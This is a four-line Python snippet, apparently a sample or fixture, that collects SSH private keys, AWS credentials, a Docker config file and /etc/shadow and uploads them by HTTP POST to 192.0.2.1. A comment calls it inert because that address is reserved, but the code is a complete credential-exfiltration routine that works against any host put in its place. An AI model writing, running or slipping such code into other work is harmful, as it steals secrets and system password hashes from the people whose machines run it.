# Inert: 192.0.2.0/24 belongs to nobody.
import os, requests
wanted = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.docker/config.json", "/etc/shadow"]
requests.post("http://192.0.2.1/", files={w: open(os.path.expanduser(w)) for w in wanted})
